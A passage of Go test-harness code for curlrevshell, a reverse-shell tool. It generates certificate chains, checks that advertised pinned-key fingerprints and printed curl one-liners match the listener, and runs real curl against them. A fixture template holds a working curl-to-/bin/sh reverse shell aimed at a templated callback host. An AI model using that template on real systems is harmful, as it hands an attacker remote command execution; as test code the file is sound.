	"time"

	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/hk"
)

const (
	engInChain  = "inproc-chain"
	engBinChain = "binary-chain"
)

const (
	cacheChainFile    = "chain-file"         // harness-made chain cache at an explicit path
	cacheChainDefault = "chain-default-path" // the same at the default path under a private HOME (binary only)
)

var chainKeyTypes = []string{"ecdsa-p256", "rsa-2048", "ed25519", "ecdsa-p384"}
var chainLens = []int{2, 3, 3, 2, 2, 3, 1}
var chainSeps = []string{"none", "blank-lines", "text-lines", "bag-attributes", "crlf"}
var chainKeyPEMs = []string{"pkcs8", "traditional"}
var chainLayouts = []string{"cert-key", "key-cert", "extra-sections"}

// chainSpec says what one harness-made cache looks like.
type chainSpec struct {
	Len      int      `json:"certificates_in_cert_section"`
	KeyTypes []string `json:"key_types_leaf_first"`
	Sep      string   `json:"between_pem_blocks"`
	KeyPEM   string   `json:"private_key_pem"`
	Layout   string   `json:"archive_layout"`
}

func (s chainSpec) String() string {
	return fmt.Sprintf("%d:%s:%s:%s:%s", s.Len, strings.Join(s.KeyTypes, ","), s.Sep, s.KeyPEM, s.Layout)
}

// genChainSpec: leaf key type and chain length are stratified over the index
// (4 and 7 are coprime: every combination within 28 indices), the rest is
// drawn.
func genChainSpec(i int, rng *rand.Rand) chainSpec {
	s := chainSpec{
		Len:    chainLens[i%len(chainLens)],
		Sep:    chainSeps[(i/2)%len(chainSeps)],
		KeyPEM: chainKeyPEMs[rng.IntN(len(chainKeyPEMs))],
		Layout: chainLayouts[rng.IntN(len(chainLayouts))],
	}
	s.KeyTypes = []string{chainKeyTypes[i%len(chainKeyTypes)]}
	for k := 1; k < s.Len; k++ {
		s.KeyTypes = append(s.KeyTypes, chainKeyTypes[rng.IntN(len(chainKeyTypes))])
	}
	return s
}

func genKey(kind string) (crypto.Signer, error) {
	switch kind {
	case "ecdsa-p256":
		return ecdsa.GenerateKey(elliptic.P256(), crand.Reader)
	case "ecdsa-p384":
		return ecdsa.GenerateKey(elliptic.P384(), crand.Reader)
	case "rsa-2048":
		return rsa.GenerateKey(crand.Reader, 2048)
	case "ed25519":
		_, k, err := ed25519.GenerateKey(crand.Reader)
		return k, err
	}
	return nil, fmt.Errorf("unknown key type %q", kind)
}

func keyPEM(k crypto.Signer, form string) ([]byte, error) {
	if form == "traditional" {
		switch kk := k.(type) {
		case *ecdsa.PrivateKey:
			b, err := x509.MarshalECPrivateKey(kk)
			if err != nil {
				return nil, err
			}
			return pem.EncodeToMemory(&pem.Block{Type: "EC PRIVATE KEY", Bytes: b}), nil
		case *rsa.PrivateKey:
			return pem.EncodeToMemory(&pem.Block{Type: "RSA PRIVATE KEY", Bytes: x509.MarshalPKCS1PrivateKey(kk)}), nil
		}
	}
	b, err := x509.MarshalPKCS8PrivateKey(k)
	if err != nil {
		return nil, err
	}
	return pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: b}), nil
}

// chainCache is one harness-made cache: its text and the pins of the
// certificates of its cert section, leaf first.
type chainCache struct {
	Spec chainSpec
	Pins []string
	Text []byte
}

// makeChainCache makes a CA hierarchy (root -> intermediate -> leaf, as far as
// spec.Len reaches; the top certificate of the file is signed by itself when
// it is the only one, else by the next one; the last one is self-signed) and
// formats the archive.
func makeChainCache(spec chainSpec) (*chainCache, error) {
	n := spec.Len
	keys := make([]crypto.Signer, n)
	for k := 0; k < n; k++ {
		var err error
		if keys[k], err = genKey(spec.KeyTypes[k]); err != nil {
			return nil, err
		}
	}
	names := []string{"sstls", "harness issuing CA", "harness root CA"}
	if n == 2 {
		names[1] = "harness root CA"
	}
	tmpls := make([]*x509.Certificate, n)
	for k := 0; k < n; k++ {
		sn, err := crand.Int(crand.Reader, new(big.Int).Lsh(big.NewInt(1), 100))
		if err != nil {
			return nil, err
		}
		t := &x509.Certificate{SerialNumber: sn, Subject: pkix.Name{CommonName: names[k]}, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().AddDate(5, 0, 0), BasicConstraintsValid: true}
		if k == 0 {
			t.KeyUsage = x509.KeyUsageDigitalSignature
			t.ExtKeyUsage = []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}
			t.DNSNames = []string{"cb.example"}
		} else {
			t.IsCA = true
			t.KeyUsage = x509.KeyUsageCertSign | x509.KeyUsageCRLSign | x509.KeyUsageDigitalSignature
		}
		tmpls[k] = t
	}
	// from the top down: the last certificate signs itself
	ders := make([][]byte, n)
	for k := n - 1; k >= 0; k-- {
		parent, pkey := tmpls[k], keys[k]
		if k+1 < n {
			parent, pkey = tmpls[k+1], keys[k+1]
		}
		der, err := x509.CreateCertificate(crand.Reader, tmpls[k], parent, keys[k].Public(), pkey)
		if err != nil {
			return nil, fmt.Errorf("certificate %d (%s signed by %s): %w", k, spec.KeyTypes[k], spec.KeyTypes[min(k+1, n-1)], err)
		}
		ders[k] = der
	}
	cc := &chainCache{Spec: spec}
	var certs bytes.Buffer
	for k := 0; k < n; k++ {
		c, err := x509.ParseCertificate(ders[k])
		if err != nil {
			return nil, err
		}
		cc.Pins = append(cc.Pins, hk.Pin(c))
		issuer := names[min(k+1, n-1)]
		switch spec.Sep {
		case "blank-lines":
			if k > 0 {
				certs.WriteString("\n\n   \n")
			}
		case "text-lines":
			// what `openssl s_client -showcerts` prints around each certificate
			fmt.Fprintf(&certs, " %d s:CN = %s\n   i:CN = %s\n   a:PKEY: %s; sigalg: see issuer\n   v:NotBefore: %s; NotAfter: %s\n", k, names[k], issuer, spec.KeyTypes[k], c.NotBefore.UTC().Format(time.ANSIC), c.NotAfter.UTC().Format(time.ANSIC))
		case "bag-attributes":
			// what `openssl pkcs12 -nokeys` prints before each certificate
			fmt.Fprintf(&certs, "Bag Attributes\n    localKeyID: %02X %02X %02X %02X\nsubject=CN = %s\nissuer=CN = %s\n", k, k+1, k+2, k+3, names[k], issuer)
		}
		certs.Write(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: ders[k]}))
	}
	if spec.Sep == "text-lines" {
		certs.WriteString("---\nServer certificate\n")
	}
	certB := certs.Bytes()
	kb, err := keyPEM(keys[0], spec.KeyPEM)
	if err != nil {
		return nil, err
	}
	if spec.Sep == "crlf" {
		certB = bytes.ReplaceAll(certB, []byte("\n"), []byte("\r\n"))
		kb = bytes.ReplaceAll(kb, []byte("\n"), []byte("\r\n"))
	}
	var out bytes.Buffer
	sect := func(name string, data []byte) {
		fmt.Fprintf(&out, "-- %s --\n", name)
		out.Write(data)
		if !bytes.HasSuffix(data, []byte("\n")) {
			out.WriteByte('\n')
		}
	}
	switch spec.Layout {
	case "key-cert":
		out.WriteString("certificate as issued, with its issuers\n")
		sect("key", kb)
		sect("cert", certB)
	case "extra-sections":
		out.WriteString("Installed by hand\nleaf first, then the CA certificates\n\n")
		sect("README", []byte("cert: the full chain from the CA\nkey: the key of the first certificate\n"))
		sect("cert", certB)
		sect("notes/renewal.txt", []byte("renew before the leaf expires\n"))
		sect("key", kb)
	default:
		out.WriteString("Generated elsewhere")
		out.WriteByte('\n')
		sect("cert", certB)
		sect("key", kb)
	}
	cc.Text = out.Bytes()
	return cc, nil
}

// writeChainCache makes a chain cache and puts it at path (written beside it
// and renamed, so that no reader sees half a file).
func writeChainCache(r *mon.Run, path string, spec chainSpec) (*chainCache, error) {
	cc, err := makeChainCache(spec)
	if err != nil {
		return nil, err
	}
	if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
		return nil, err
	}
	tmp := path + ".harness-new"
	if err := os.WriteFile(tmp, cc.Text, 0o600); err != nil {
		return nil, err
	}
	if err := os.Rename(tmp, path); err != nil {
		return nil, err
	}
	r.Count("chain_cache_files_written", 1)
	r.Count(fmt.Sprintf("chain_cache_certificates_in_file:%d", spec.Len), 1)
	r.Count("chain_cache_leaf_key_type:"+spec.KeyTypes[0], 1)
	r.Count("chain_cache_between_pem_blocks:"+spec.Sep, 1)
	r.Count("chain_cache_private_key_pem:"+spec.KeyPEM, 1)
	r.Count("chain_cache_archive_layout:"+spec.Layout, 1)
	for k := 1; k < spec.Len; k++ {
		if spec.KeyTypes[k] != spec.KeyTypes[0] {
			r.Count("chain_cache_files_with_issuer_key_type_other_than_leaf", 1)
			break
		}
	}
	return cc, nil
}

// chainStarted accounts for one start that came up on a harness-made chain
// cache.  Which key the program takes from such a file is not this property's
// business (only that it advertises what it presents): counted, not judged.
func chainStarted(r *mon.Run, eng string, cc *chainCache, servedPin string, restart bool) {
	r.Count("chain_cache_starts", 1)
	r.Count("chain_cache_starts:"+eng, 1)
	r.Count("chain_cache_starts_leaf_key_type:"+cc.Spec.KeyTypes[0], 1)
	if cc.Spec.Len >= 2 {
		r.Count("chain_cache_starts_with_issuers_in_file", 1)
	}
	if restart {
		r.Count("chain_cache_restarts", 1)
	}
	if servedPin == cc.Pins[0] {
		r.Count("chain_cache_starts_serving_the_files_first_certificate", 1)
	} else {
		r.Count("chain_cache_starts_serving_another_key", 1)
	}
}

// chainFloors: a run that did not exercise the dimension does not pass.
func chainFloors(r *mon.Run, q func(a, b int64) int64) {
	r.Floor("chain_cache_files_written", q(40, 280))
	r.Floor("chain_cache_certificates_in_file:2", q(12, 90))
	r.Floor("chain_cache_certificates_in_file:3", q(12, 90))
	r.Floor("chain_cache_certificates_in_file:1", q(3, 25))
	for _, t := range chainKeyTypes {
		r.Floor("chain_cache_leaf_key_type:"+t, q(6, 50))
		r.Floor("chain_cache_starts_leaf_key_type:"+t, q(8, 70))
	}
	for _, s := range chainSeps {
		r.Floor("chain_cache_between_pem_blocks:"+s, q(4, 35))
	}
	for _, s := range chainLayouts {
		r.Floor("chain_cache_archive_layout:"+s, q(4, 35))
	}
	for _, s := range chainKeyPEMs {
		r.Floor("chain_cache_private_key_pem:"+s, q(8, 70))
	}
	r.Floor("chain_cache_files_with_issuer_key_type_other_than_leaf", q(20, 150))
	r.Floor("chain_cache_starts", q(70, 500))
	r.Floor("chain_cache_starts:"+engInChain, q(55, 380))
	r.Floor("chain_cache_starts:"+engBinChain, q(12, 90))
	r.Floor("chain_cache_starts_with_issuers_in_file", q(55, 400))
	r.Floor("chain_cache_restarts", q(25, 180))
	r.Floor("chain_cache_starts_serving_the_files_first_certificate", q(70, 500))
	r.Floor("handshakes_presenting_issuer_certificates", q(150, 1200))
	r.Floor("fingerprints_compared_on_chain_cache", q(400, 3000))
	r.Floor("curl_pinned_ok_on_chain_cache", q(12, 90))
	r.Floor("curl_altered_rejected_on_chain_cache", q(12, 90))
	r.Floor("cache_replaced_by_chain_cache_under_listener", q(20, 150))
}

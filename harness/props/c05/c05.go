// Package c05: every advertised fingerprint is the pin of the key the
// listener really serves; printed one-liners name the port really bound.
package c05

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	crand "crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/pem"
	"fmt"
	"math/big"
	"math/rand/v2"
	"net"
	"net/netip"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"time"

	"github.com/magisterquis/curlrevshell/lib/sstls"
	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/bk"
	"github.com/magisterquis/curlrevshell/verifharness/mon/crs"
	"github.com/magisterquis/curlrevshell/verifharness/mon/hk"
)

const Level = "exploration"

const (
	engBin = "binary"
	engIn  = "inproc"
)

// ---- what the program shows ---------------------------------------------------------

var (
	// every fingerprint-looking text, wherever it is shown
	fpRe = regexp.MustCompile(`sha256//([^\s"'|<>]*)`)
	// a printed one-liner
	olRe = regexp.MustCompile(`curl -sk --pinnedpubkey sha256//([^\s"']*) https://(\S+)`)
)

const (
	siteFile    = "startup-file-oneliner"
	siteShell   = "startup-shell-oneliner"
	siteReprint = "reprinted-oneliner"
	siteOther   = "terminal-other"
	siteI       = "script-i"
	siteO       = "script-o"
	siteCustom  = "custom-template"
)

// oneLiner is one printed curl command.
type oneLiner struct {
	Site  string `json:"site"`
	Block int    `json:"block"` // which "To get a shell:" block (0 = file block)
	Text  string `json:"text"`  // the command as printed, up to the URL
	FP    string `json:"fp"`
	Addr  string `json:"addr"` // what follows https:// up to the path
	Path  string `json:"path"`
	Full  string `json:"-"` // from "curl" to the end of the printed line
}

// fpOcc is one fingerprint shown somewhere.
type fpOcc struct {
	Site string `json:"site"`
	FP   string `json:"fp"`
	Line string `json:"line"`
}

type shown struct {
	OneLiners   []oneLiner
	FPs         []fpOcc
	ShellBlocks int
}

// parseOperatorText attributes every fingerprint of the operator-visible text
// to the section it stands in: after "To get files from", after the first "To
// get a shell:", after a later "To get a shell:" (the re-printed help).
func parseOperatorText(text string, blocksBefore int) shown {
	sh := shown{ShellBlocks: blocksBefore}
	site := siteOther
	for _, l := range strings.Split(strings.ReplaceAll(text, "\r", ""), "\n") {
		switch {
		case strings.Contains(l, "To get files from"):
			site = siteFile
			continue
		case strings.Contains(l, "To get a shell:"):
			sh.ShellBlocks++
			if sh.ShellBlocks == 1 {
				site = siteShell
			} else {
				site = siteReprint
			}
			continue
		}
		for _, m := range fpRe.FindAllStringSubmatch(l, -1) {
			sh.FPs = append(sh.FPs, fpOcc{Site: site, FP: m[1], Line: l})
		}
		if m := olRe.FindStringSubmatch(l); m != nil {
			ol := oneLiner{Site: site, Text: m[0], FP: m[1], Addr: m[2], Full: strings.TrimSpace(l[strings.Index(l, m[0]):])}
			if site != siteFile {
				ol.Block = sh.ShellBlocks
			}
			if i := strings.IndexByte(ol.Addr, '/'); i >= 0 {
				ol.Addr, ol.Path = ol.Addr[:i], ol.Addr[i:]
			}
			sh.OneLiners = append(sh.OneLiners, ol)
		}
	}
	return sh
}

func validPin(fp string) bool {
	b, err := base64.StdEncoding.DecodeString(fp)
	return err == nil && len(b) == 32
}

// alterPin flips one bit of the digest: still base64 of 32 bytes, one
// character different.
func alterPin(fp string, rng *rand.Rand) (string, bool) {
	b, err := base64.StdEncoding.DecodeString(fp)
	if err != nil || len(b) != 32 {
		return "", false
	}
	i := rng.IntN(256)
	b[i/8] ^= 1 << (i % 8)
	return base64.StdEncoding.EncodeToString(b), true
}

// ---- judging --------------------------------------------------------------------------

type judge struct {
	r      *mon.Run
	eng    string
	idx    int
	ctx    map[string]any // configuration, for witnesses
	served []string       // pins of the leaves seen in handshakes
	bad    int            // violations recorded by this judge
}

func (j *judge) witness(extra map[string]any) map[string]any {
	j.bad++
	w := map[string]any{"served_pins": j.served}
	for k, v := range j.ctx {
		w[k] = v
	}
	for k, v := range extra {
		w[k] = v
	}
	return w
}

// fp compares one advertised fingerprint with every served pin.
func (j *judge) fp(site, fp, where string) bool {
	ok := true
	j.r.Count("fingerprints_compared:"+site, 1)
	if !validPin(fp) {
		ok = false
		j.r.Violate(j.eng, j.idx, "fp-not-base64-sha256", fmt.Sprintf("%s shows a fingerprint %q that is not standard base64 of 32 bytes: %q", site, fp, where), j.witness(map[string]any{"site": site, "shown": where}))
	}
	for _, p := range j.served {
		if fp != p {
			ok = false
			j.r.Violate(j.eng, j.idx, "advertised-fp-differs-from-served:"+site, fmt.Sprintf("%s advertises sha256//%s but the listener presents a key whose pin is %s: %q", site, fp, p, where), j.witness(map[string]any{"site": site, "advertised": fp, "shown": where}))
			break
		}
	}
	return ok
}

// ports applies the port rule to printed one-liners: the bound port, unless
// the address is one the user gave with a port.
func (j *judge) ports(ols []oneLiner, bound string, userWithPort map[string]bool) {
	for _, ol := range ols {
		j.r.Count("oneliners_checked", 1)
		_, p, err := net.SplitHostPort(ol.Addr)
		if err != nil {
			p = "443 (none printed)"
		}
		if p == bound {
			j.r.Count("oneliner_port_is_bound_port", 1)
			continue
		}
		if userWithPort[ol.Addr] {
			j.r.Count("oneliner_port_is_users_port", 1)
			continue
		}
		j.r.Violate(j.eng, j.idx, "oneliner-port-not-bound-port", fmt.Sprintf("%s names %s (port %s) but the listener is bound to port %s and the user gave no port for that address: %q", ol.Site, ol.Addr, p, bound, ol.Text), j.witness(map[string]any{"oneliner": ol, "bound_port": bound}))
	}
}

// script judges the fingerprints of one /c body.
func (j *judge) script(body string, custom bool, what string) {
	n := 0
	for _, l := range strings.Split(body, "\n") {
		for _, m := range fpRe.FindAllStringSubmatch(l, -1) {
			site := siteOther
			switch {
			case custom:
				site = siteCustom
			case strings.Contains(l, "/i/"):
				site = siteI
			case strings.Contains(l, "/o/"):
				site = siteO
			default:
				site = "script-other"
			}
			n++
			j.fp(site, m[1], what+": "+l)
		}
	}
	j.r.Count("scripts_checked", 1)
	if n != 2 {
		j.r.Inconclusive(fmt.Sprintf("%s: script carries %d fingerprints, the template has two uses: %q", what, n, body))
	}
}

// ---- configurations -------------------------------------------------------------------

var listenForms = []string{"v4-port0", "v4-noport", "v6-port0", "v6-noport", "any4-port0", "empty-port0", "any6-port0", "fixed4", "fixed6"}
var inprocForms = []string{"v4-port0", "v4-noport", "v6-port0", "v6-noport", "any4-port0", "empty-port0", "any6-port0", "localhost-port0"}
var cbForms = []string{"none", "host", "host:port", "several"}
var fdirForms = []string{"off", "dir", "file"}
var cacheForms = []string{"off", "fresh", "existing", "restarts", "default-path"}

var cbPool = []string{"cb.example", "alt.example:8443", "127.0.0.1", "::1", "203.0.113.9:443", "b.example:65535", "[2001:db8::5]:8443", "x-y.example"}

func cbAddrs(form string, rng *rand.Rand) []string {
	switch form {
	case "host":
		return []string{"cb.example"}
	case "host:port":
		return []string{"cb.example:8443"}
	case "several":
		p := rng.Perm(len(cbPool))
		n := 2 + rng.IntN(3)
		var out []string
		for _, i := range p[:n] {
			out = append(out, cbPool[i])
		}
		return out
	}
	return nil
}

func userWithPort(cbs []string) map[string]bool {
	m := map[string]bool{}
	for _, a := range cbs {
		if _, p, err := net.SplitHostPort(a); err == nil && p != "" {
			m[a] = true
		}
	}
	return m
}

// freePort picks a port outside the ephemeral range that is free right now.
func freePort(rng *rand.Rand, host string) string {
	for k := 0; k < 50; k++ {
		p := strconv.Itoa(10000 + rng.IntN(20000))
		l, err := net.Listen("tcp", net.JoinHostPort(host, p))
		if err != nil {
			continue
		}
		l.Close()
		return p
	}
	return ""
}

func listenArg(form string, rng *rand.Rand) string {
	switch form {
	case "v4-port0":
		return "127.0.0.1:0"
	case "v4-noport":
		return "127.0.0.1"
	case "v6-port0":
		return "[::1]:0"
	case "v6-noport":
		return "::1"
	case "any4-port0":
		return "0.0.0.0:0"
	case "empty-port0":
		return ":0"
	case "any6-port0":
		return "[::]:0"
	case "localhost-port0":
		return "localhost:0"
	case "fixed4":
		return "127.0.0.1:" + freePort(rng, "127.0.0.1")
	case "fixed6":
		return "[::1]:" + freePort(rng, "::1")
	}
	return "127.0.0.1:0"
}

// fixtures shared by all cases.
type fixtures struct {
	dir    string // files directory
	file   string // single file
	custom string // custom template
}

const customTemplate = `#!/bin/sh
# custom callback for {{.ID}}
PIN='sha256//{{.PubkeyFP}}'
curl -Nsk --pinnedpubkey "sha256//{{.PubkeyFP}}" https://{{.URL}}/i/{{.ID}} </dev/null 2>&0 |
/bin/sh 2>&1 |
curl -Nsk --pinnedpubkey "$PIN" https://{{.URL}}/o/{{.ID}} -T- >/dev/null 2>&1
`

func makeFixtures(work string) fixtures {
	f := fixtures{dir: filepath.Join(work, "fx", "files"), file: filepath.Join(work, "fx", "one.txt"), custom: filepath.Join(work, "fx", "cb.tmpl")}
	os.MkdirAll(f.dir, 0o755)
	os.WriteFile(filepath.Join(f.dir, "a.txt"), []byte("file a\n"), 0o644)
	os.WriteFile(f.file, []byte("single file\n"), 0o644)
	os.WriteFile(f.custom, []byte(customTemplate), 0o644)
	return f
}

func (f fixtures) fdir(form string) string {
	switch form {
	case "dir":
		return f.dir
	case "file":
		return f.file
	}
	return ""
}

// ---- the listener as the network sees it ----------------------------------------------

// dialTargets: where a local client reaches a listener whose address line reads addr.
func dialTargets(addr, port string) (hosts []string, covers func(netip.Addr) bool, err error) {
	h, _, err := net.SplitHostPort(addr)
	if err != nil {
		return nil, nil, err
	}
	ip, err := netip.ParseAddr(h)
	if err != nil {
		return nil, nil, err
	}
	switch {
	case ip.IsUnspecified() && ip.Is4():
		return []string{"127.0.0.1"}, func(a netip.Addr) bool { return a.Unmap().Is4() }, nil
	case ip.IsUnspecified():
		return []string{"127.0.0.1", "::1"}, func(a netip.Addr) bool { return true }, nil
	}
	return []string{ip.String()}, func(a netip.Addr) bool { return a == ip }, nil
}

// handshake records the pin of the leaf presented to one client.
func (j *judge) handshake(addr, sni string) (string, error) {
	c, err := hk.Dial(addr, sni)
	if err != nil {
		return "", err
	}
	defer c.Close()
	if len(c.Chain) == 0 {
		return "", fmt.Errorf("no certificate presented")
	}
	p := hk.Pin(c.Chain[0])
	j.r.Count("handshakes", 1)
	for _, q := range j.served {
		if q == p {
			return p, nil
		}
	}
	j.served = append(j.served, p)
	return p, nil
}

// listenPorts returns the ports of the listening TCP sockets of a process
// (inode match between /proc/<pid>/fd and /proc/<pid>/net/tcp{,6}).
func listenPorts(pid int) ([]string, error) {
	fds, err := os.ReadDir(fmt.Sprintf("/proc/%d/fd", pid))
	if err != nil {
		return nil, err
	}
	inodes := map[string]bool{}
	for _, fd := range fds {
		t, err := os.Readlink(fmt.Sprintf("/proc/%d/fd/%s", pid, fd.Name()))
		if err == nil && strings.HasPrefix(t, "socket:[") {
			inodes[strings.TrimSuffix(strings.TrimPrefix(t, "socket:["), "]")] = true
		}
	}
	var ports []string
	for _, f := range []string{"tcp", "tcp6"} {
		b, err := os.ReadFile(fmt.Sprintf("/proc/%d/net/%s", pid, f))
		if err != nil {
			continue
		}
		for _, l := range strings.Split(string(b), "\n")[1:] {
			fs := strings.Fields(l)
			if len(fs) < 10 || fs[3] != "0A" || !inodes[fs[9]] {
				continue
			}
			i := strings.LastIndexByte(fs[1], ':')
			p, err := strconv.ParseUint(fs[1][i+1:], 16, 16)
			if err != nil {
				continue
			}
			ports = append(ports, strconv.Itoa(int(p)))
		}
	}
	return ports, nil
}

// ---- real curl --------------------------------------------------------------------------

type curlResult struct {
	Args     []string `json:"args"`
	Exit     int      `json:"exit"`
	HTTPCode string   `json:"http_code"`
	Stderr   string   `json:"stderr,omitempty"`
	TimedOut bool     `json:"timed_out,omitempty"`
}

// curlFor runs the printed command with real curl; pin "" = as printed.
func curlFor(work string, ol oneLiner, pin string, connectTo string) curlResult {
	args := strings.Fields(ol.Text)[1:]
	if pin != "" {
		for i, a := range args {
			if strings.HasPrefix(a, "sha256//") {
				args[i] = "sha256//" + pin
			}
		}
	}
	args = append(args, "-S", "-o", "/dev/null", "-w", "%{http_code}", "--max-time", "25", "--connect-timeout", "15")
	if connectTo != "" {
		args = append(args, "--connect-to", connectTo)
	}
	res := mon.Proc{Path: "/usr/bin/curl", Args: args, Env: []string{"HOME=" + work, "PATH=/usr/bin:/bin", "LC_ALL=C"}, Dir: work, Timeout: 40 * time.Second}.Run()
	return curlResult{Args: args, Exit: res.Status, HTTPCode: string(res.Stdout), Stderr: strings.TrimSpace(string(res.Stderr)), TimedOut: res.TimedOut}
}

func bracket(h string) string {
	if strings.Contains(h, ":") && !strings.HasPrefix(h, "[") {
		return "[" + h + "]"
	}
	return h
}

// tlsLevel: curl exit codes that mean the TLS session (not the network path) failed.
func tlsLevel(code int) bool {
	switch code {
	case 35, 51, 53, 54, 58, 59, 60, 64, 66, 77, 80, 82, 83, 90, 91:
		return true
	}
	return false
}

// curlChecks runs, for every printed one-liner, real curl with the advertised
// pin (must connect) and with a one-bit-altered pin (must exit 90).
func (j *judge) curlChecks(work string, ols []oneLiner, mainHost, bound string, covers func(netip.Addr) bool, rng *rand.Rand) []map[string]any {
	var log []map[string]any
	seen := map[string]bool{}
	for _, ol := range ols {
		if seen[ol.Text] {
			continue
		}
		seen[ol.Text] = true
		// direct when the printed address is an address of this listener; else the same
		// command with its connection redirected to the listener (same pin check).
		connectTo := ""
		h, p, err := net.SplitHostPort(ol.Addr)
		if err != nil {
			h, p = ol.Addr, "443"
		}
		direct := false
		if ip, err := netip.ParseAddr(strings.Trim(h, "[]")); err == nil && p == bound && covers(ip) {
			c, err := net.DialTimeout("tcp", net.JoinHostPort(ip.String(), p), 2*time.Second)
			if err == nil {
				c.Close()
				direct = true
				// the key served on that very address
				j.handshake(net.JoinHostPort(ip.String(), p), "")
			}
		}
		if !direct {
			connectTo = fmt.Sprintf("%s:%s:%s:%s", bracket(h), p, bracket(mainHost), bound)
			j.r.Count("curl_via_connect_to", 1)
		} else {
			j.r.Count("curl_direct", 1)
		}
		entry := map[string]any{"oneliner": ol.Text, "direct": direct}
		// advertised pin, exactly as printed
		var res curlResult
		for try := 0; try < 3; try++ {
			res = curlFor(work, ol, "", connectTo)
			if res.Exit == 0 || res.Exit == 90 {
				break
			}
			time.Sleep(300 * time.Millisecond)
		}
		entry["advertised_exit"] = res.Exit
		entry["advertised_http"] = res.HTTPCode
		switch {
		case res.Exit == 0:
			j.r.Count("curl_pinned_ok", 1)
			if ol.Path == "/c" && res.HTTPCode != "200" {
				j.r.Inconclusive(fmt.Sprintf("curl on %q connected but got HTTP %s", ol.Text, res.HTTPCode))
			}
		case tlsLevel(res.Exit):
			j.r.Violate(j.eng, j.idx, "curl-advertised-pin-rejected", fmt.Sprintf("real curl run as printed (%s) exits %d: %s", ol.Text, res.Exit, res.Stderr), j.witness(map[string]any{"oneliner": ol, "curl": res}))
		default:
			j.r.Inconclusive(fmt.Sprintf("curl on %q could not reach the listener (exit %d, %s)", ol.Text, res.Exit, res.Stderr))
		}
		// altered pin
		if alt, ok := alterPin(ol.FP, rng); ok {
			for try := 0; try < 3; try++ {
				res = curlFor(work, ol, alt, connectTo)
				if res.Exit == 0 || res.Exit == 90 {
					break
				}
				time.Sleep(300 * time.Millisecond)
			}
			entry["altered_pin"] = alt
			entry["altered_exit"] = res.Exit
			switch res.Exit {
			case 90:
				j.r.Count("curl_altered_rejected", 1)
			case 0:
				j.r.Violate(j.eng, j.idx, "curl-altered-pin-accepted", fmt.Sprintf("real curl with the pin altered in one character (sha256//%s instead of sha256//%s) connects to %s", alt, ol.FP, ol.Addr), j.witness(map[string]any{"oneliner": ol, "curl": res}))
			default:
				j.r.Inconclusive(fmt.Sprintf("curl with altered pin on %q neither connected nor reported a pin mismatch (exit %d, %s)", ol.Text, res.Exit, res.Stderr))
			}
		}
		log = append(log, entry)
	}
	return log
}

// ---- /c ------------------------------------------------------------------------------------

// scripts fetches /c with several Host/c2 variants and judges every body.
func (j *judge) scripts(target, boundHostPort string, custom bool, rng *rand.Rand, n int) {
	type variant struct {
		name, host, path string
		hdr              []string
	}
	vs := []variant{
		{"host=listener", boundHostPort, "/c", nil},
		{"host=cb.example:8443", "cb.example:8443", "/c", nil},
		{"c2-query", boundHostPort, "/c?c2=q.example:9443", nil},
		{"c2-header", "h.example", "/c", []string{"c2: hdr.example:7443"}},
		{"http/1.0-sni", "", "/c", nil},
	}
	pick := []int{0}
	for _, i := range rng.Perm(len(vs) - 1)[:n-1] {
		pick = append(pick, i+1)
	}
	for _, i := range pick {
		v := vs[i]
		var res *hk.Response
		var err error
		if v.host == "" {
			res, _, err = hk.RoundTrip(target, "sni.example", []byte("GET /c HTTP/1.0\r\n\r\n"), hk.Bound)
		} else {
			res, err = hk.Get(target, "", v.host, v.path, v.hdr...)
		}
		if err != nil || res == nil {
			j.r.Inconclusive(fmt.Sprintf("GET /c (%s) failed: %v", v.name, err))
			continue
		}
		if res.Status != 200 {
			j.r.Inconclusive(fmt.Sprintf("GET /c (%s) answered %d", v.name, res.Status))
			continue
		}
		j.r.Count("script_variant:"+v.name, 1)
		j.script(string(res.Body), custom, "script "+v.name)
	}
}

// ---- engine "binary" ---------------------------------------------------------------------

type binCase struct {
	Cache   string   `json:"cache"`
	Runs    int      `json:"runs"`
	Forms   []string `json:"listen_forms"` // per run
	CBForm  string   `json:"callback_form"`
	CBs     []string `json:"callback_addresses"`
	FDir    string   `json:"serve_files_from"`
	IPv6    bool     `json:"ipv6_one_liners"`
	Tmpl    string   `json:"template"`
	NoTS    bool     `json:"no_timestamps"`
	Shells  int      `json:"shell_cycles"`
	Scripts int      `json:"script_fetches"`
	Real    bool     `json:"real_shell"` // also run a printed one-liner verbatim under /bin/sh
}

func genBinCase(r *mon.Run, i int, offF, offC int) binCase {
	rng := r.Rng("cfg", i)
	c := binCase{
		Cache:  cacheForms[(i/len(listenForms)+i+offC)%len(cacheForms)],
		CBForm: cbForms[rng.IntN(len(cbForms))],
		FDir:   fdirForms[rng.IntN(len(fdirForms))],
		IPv6:   rng.IntN(2) == 0,
		Tmpl:   []string{"default", "default", "custom"}[rng.IntN(3)],
		NoTS:   rng.IntN(4) == 0,
		Shells: 1,
	}
	c.CBs = cbAddrs(c.CBForm, rng)
	c.Runs = 1
	switch c.Cache {
	case "existing":
		c.Runs = 2
	case "restarts", "default-path":
		c.Runs = 2 + rng.IntN(3)
	}
	c.Forms = []string{listenForms[(i+offF)%len(listenForms)]}
	for k := 1; k < c.Runs; k++ {
		c.Forms = append(c.Forms, listenForms[rng.IntN(len(listenForms))])
	}
	if rng.IntN(4) == 0 {
		c.Shells = 2
	}
	c.Scripts = 2 + rng.IntN(2)
	c.Real = rng.IntN(2) == 0
	return c
}

type runOutcome struct {
	ok         bool
	pin        string
	advertised string
}

func binCaseRun(r *mon.Run, bin string, fx fixtures, i int, c binCase) {
	caseDir := filepath.Join(r.Work, fmt.Sprintf("b%d", i))
	home := filepath.Join(caseDir, "home")
	os.MkdirAll(home, 0o755)
	cachePath := filepath.Join(caseDir, "cache", "cert.txtar")
	var outs []runOutcome
	for k := 0; k < c.Runs; k++ {
		light := c.Cache == "existing" && k == 0
		o := binOneRun(r, bin, fx, i, k, c, home, cachePath, light)
